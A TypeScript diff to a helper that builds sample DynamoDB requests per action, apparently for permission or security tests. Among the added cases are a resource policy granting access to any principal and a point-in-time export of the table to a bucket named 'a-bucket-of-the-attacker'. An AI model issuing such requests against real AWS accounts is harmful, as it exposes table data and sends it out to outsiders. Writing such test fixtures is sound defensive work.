@@ -41,7 +41,7 @@ function addTo(input: DynamoDbCall['input'], more: Readonly<Record<string, unkno
 
 function callFor(
   action: string,
-  { tableName: TableName, keys: names }: Target,
+  { tableName: TableName, keys: names, database }: Target,
   keys: readonly string[],
   IndexName: string | undefined,
 ): DynamoDbCall | undefined {
@@ -50,6 +50,7 @@ function callFor(
     ...(names.sortKey === undefined ? {} : { [names.sortKey]: { S: 'one' } }),
   }))
   const [Key] = items
+  const arn = `arn:aws:dynamodb:${database.region}:${database.account}:table/${TableName}`
   const [key] = keys
   const index = IndexName === undefined ? {} : { IndexName }
   const partitionKey =
@@ -100,7 +101,7 @@ function callFor(
     case 'BatchGetItem':
       return { operation: 'BatchGetItem', input: { RequestItems: { [TableName]: { Keys: items } } } }
     case 'BatchWriteItem': {
-      const writes = items.map((each) => ({ DeleteRequest: { Key: each } }))
+      const writes = items.map((each) => ({ PutRequest: { Item: each } }))
       return { operation: 'BatchWriteItem', input: { RequestItems: { [TableName]: writes } } }
     }
     case 'PartiQLSelect':
@@ -116,6 +117,15 @@ function callFor(
       const value = key === undefined ? '' : `'${partitionKey}': '${key.replaceAll("'", "''")}'`
       return { operation: 'ExecuteStatement', input: { Statement: `INSERT INTO ${from} VALUE {${value}}` } }
     }
+    case 'PutResourcePolicy':
+      return {
+        operation: action,
+        input: { ResourceArn: arn, Policy: '{"Statement":{"Effect":"Allow","Principal":"*",…}}' },
+      }
+    case 'DeleteResourcePolicy':
+      return { operation: action, input: { ResourceArn: arn } }
+    case 'ExportTableToPointInTime':
+      return { operation: action, input: { TableArn: arn, S3Bucket: 'a-bucket-of-the-attacker' } }
     default:
       return { operation: action, input: { TableName } }
   }
